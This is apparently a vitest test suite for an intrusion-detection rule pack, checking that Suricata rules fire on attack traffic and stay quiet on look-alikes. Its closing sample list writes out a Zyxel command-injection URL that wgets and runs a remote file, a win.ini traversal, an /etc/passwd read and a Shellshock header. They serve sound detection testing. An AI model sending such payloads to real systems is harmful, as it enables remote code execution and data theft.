import { existsSync, readFileSync } from 'node:fs';
import { beforeAll, describe, expect, test } from 'vitest';
import { catalogueText, compilePack } from './compile.ts';
import { pack, rules } from './index.ts';
import { eicarText } from './malware/eicar.ts';
import type { Rule } from './rule.ts';
import { categories, classOf, foreignClasses } from './taxonomy.ts';
import { everyday } from './traffic/everyday.ts';
import { http, ok } from './traffic/http.ts';
import { describeTrial, engineMissing, inspect, type Trial } from './traffic/inspect.ts';
import { cutsOf } from './traffic/play.ts';

test('the order of the rules never changes the bytes of the pack', () => {
  expect(compilePack(rules.toReversed())).toEqual(pack);
});

test('the committed pack is what the rules compile to', async () => {
  await expect(pack.rules).toMatchFileSnapshot('pack/vauban.rules');
  await expect(pack.classification).toMatchFileSnapshot('pack/classification.config');
  await expect(catalogueText(pack)).toMatchFileSnapshot('pack/catalogue.json');
});

test('every rule has a signature number of its own in the range of the pack', () => {
  const numbers = rules.map((it) => it.sid);
  expect(new Set(numbers).size).toBe(numbers.length);
  expect(numbers.every((it) => it >= 9_000_100 && it <= 9_999_999)).toBe(true);
});

test('every threat has a name, an explanation, attacks and look-alikes', () => {
  for (const rule of rules.filter((it) => it.silent !== true)) {
    const at = `${rule.sid} ${rule.name}`;
    expect(rule.name, at).toMatch(/^[A-Z0-9][\w .,()\-/]{5,90}$/);
    expect(rule.description.length, at).toBeGreaterThan(40);
    expect(rule.attacks.length, at).toBeGreaterThan(0);
    expect(rule.benign.length, at).toBeGreaterThan(0);
    for (const cve of rule.cves ?? []) expect(cve, at).toMatch(/^CVE-\d{4}-\d{4,}$/);
  }
});

test('rules that share a threat agree on its name and severity', () => {
  const byThreat = Map.groupBy(pack.threats, (it) => it.threatId);
  for (const [threat, list] of byThreat) {
    expect(new Set(list.map((it) => it.severity)).size, threat).toBe(1);
  }
});

test('every class of rule has a target: ours, the customary ones and those of the engine that is installed', () => {
  for (const rule of rules) expect(pack.classes[classOf(rule.category, rule.severity)]).toBeDefined();
  for (const name of Object.keys(foreignClasses)) expect(pack.classification).toContain(`classification: ${name},`);
  for (const it of Object.values(pack.classes)) expect(categories[it.category]).toBeDefined();
  const file = '/etc/suricata/classification.config';
  const installed = existsSync(file) ? readFileSync(file, 'utf8') : '';
  for (const [, name] of installed.matchAll(/^config classification:\s*([^,]+),/gm)) {
    expect(pack.classes[name ?? ''], name).toBeDefined();
  }
});

test('what an alert carries of a class leads back to its category and type', () => {
  for (const line of pack.classification.trim().split('\n')) {
    const [, name = '', words = ''] = /^config classification: ([^,]+),([^,]+),[1-5]$/.exec(line) ?? [];
    const { category, type } = pack.classes[name] ?? {};
    expect(pack.meanings[words], line).toEqual({ category, type });
  }
});

const missing = await engineMissing();

describe.skipIf(missing !== undefined)(
  `in the real engine${missing === undefined ? '' : ` (skipped: ${missing})`}`,
  () => {
    const attackedBy = (rule: Rule) => (rule.match.some((it) => it.includes('to_client')) ? 'server' : 'client');
    const trialsOf = (rule: Rule, which: 'attacks' | 'benign'): Trial[] =>
      rule[which].flatMap((sample) => cutsOf(sample, attackedBy(rule)).map((cut) => ({ sample, cut })));
    const all = [
      ...rules.flatMap((rule) => [...trialsOf(rule, 'attacks'), ...trialsOf(rule, 'benign')]),
      ...everyday.flatMap((sample) => cutsOf(sample).map((cut) => ({ sample, cut }))),
      ...document().map(({ sample }) => ({ sample, cut: 'whole' as const })),
    ];
    let found: readonly ReadonlyMap<number, number>[] = [];
    beforeAll(async () => {
      found = await inspect(pack, all);
    }, 120_000);

    /** What was raised, in the order in which the trials above were listed. */
    function* results(): Generator<{ trial: Trial; raised: ReadonlyMap<number, number> }> {
      for (const [index, trial] of all.entries()) yield { trial, raised: found[index] ?? new Map() };
    }

    test('each attack fires its rule, in every encoding and however it is cut into packets', () => {
      const result = results();
      const silent: string[] = [];
      for (const rule of rules) {
        for (const trial of trialsOf(rule, 'attacks')) {
          const raised = next(result);
          if (!raised.has(rule.sid)) silent.push(`${rule.sid} ${rule.name}: ${describeTrial(trial)}`);
        }
        for (const _ of trialsOf(rule, 'benign')) next(result);
      }
      expect(silent).toEqual([]);
    });

    test('no look-alike fires any rule', () => {
      const result = results();
      const fired: string[] = [];
      for (const rule of rules) {
        for (const _ of trialsOf(rule, 'attacks')) next(result);
        for (const trial of trialsOf(rule, 'benign')) {
          const raised = [...next(result).keys()];
          if (raised.length > 0) fired.push(`${raised} by look-alike of ${rule.sid}: ${describeTrial(trial)}`);
        }
      }
      expect(fired).toEqual([]);
    });

    test('everyday traffic fires nothing', () => {
      const names = new Set(everyday);
      const fired = [...results()]
        .filter(({ trial, raised }) => names.has(trial.sample) && raised.size > 0)
        .map(({ trial, raised }) => `${[...raised.keys()]}: ${describeTrial(trial)}`);
      expect(fired).toEqual([]);
    });

    test('a mirrored conversation raises each alert of a TCP rule once', () => {
      const repeated = [...results()]
        .filter(({ trial }) => trial.sample.kind === 'tcp')
        .flatMap(({ trial, raised }) =>
          [...raised].filter(([, n]) => n > 1).map(([sid, n]) => `${sid} ${n} times: ${describeTrial(trial)}`),
        );
      expect(repeated).toEqual([]);
    });

    test('the five commands of the document raise exactly one threat each, with the severity that it names', () => {
      const last = found.slice(-document().length);
      document().forEach(({ severity, name, sample }, index) => {
        const raised = [...(last[index]?.keys() ?? [])].map((sid) => pack.threats.find((it) => it.sid === sid));
        expect(
          raised.map((it) => [it?.severity, it?.name]),
          sample.label,
        ).toEqual([[severity, name]]);
      });
    });
  },
);

function next(result: Generator<{ raised: ReadonlyMap<number, number> }>): ReadonlyMap<number, number> {
  const { value, done } = result.next();
  if (done === true) throw new Error('fewer results than trials');
  return value.raised;
}

/** What curl 7.74 (Debian 11) puts on the wire for the commands of the document, and what newer ones do. */
function document() {
  const login = "/weblogin.cgi?username=admin';cd /tmp;wget http://123.123.123.123/evil;sh evil;rm evil";
  const zyxel = 'Zyxel Multiple Products Command Injection Vulnerability';
  return [
    { severity: 'LOW', name: zyxel, sample: http('low, raw spaces', login) },
    { severity: 'LOW', name: zyxel, sample: http('low, %20', login.replaceAll(' ', '%20')) },
    { severity: 'LOW', name: zyxel, sample: http('low, plus', login.replaceAll(' ', '+')) },
    {
      severity: 'MEDIUM',
      name: 'Microsoft Windows win.ini Access Attempt Detected',
      sample: http('medium, win.ini', '/?item=../../../../WINNT/win.ini'),
    },
    {
      severity: 'MEDIUM',
      name: 'Eicar File Detected',
      sample: http('medium, eicar', '/eicar.file', { answer: ok(`${eicarText}\n`) }),
    },
    {
      severity: 'HIGH',
      name: 'System Command Execution Through URL With Password File',
      sample: http('high', '//bin/cat%20/etc/passwd'),
    },
    {
      severity: 'CRITICAL',
      name: 'Bash Remote Code Execution Vulnerability',
      sample: http('critical', '/cgi-bin/test-critical', {
        headers: ['User-Agent: () { :; }; 123.123.123.123:9999', 'Accept: */*'],
      }),
    },
  ] as const;
}
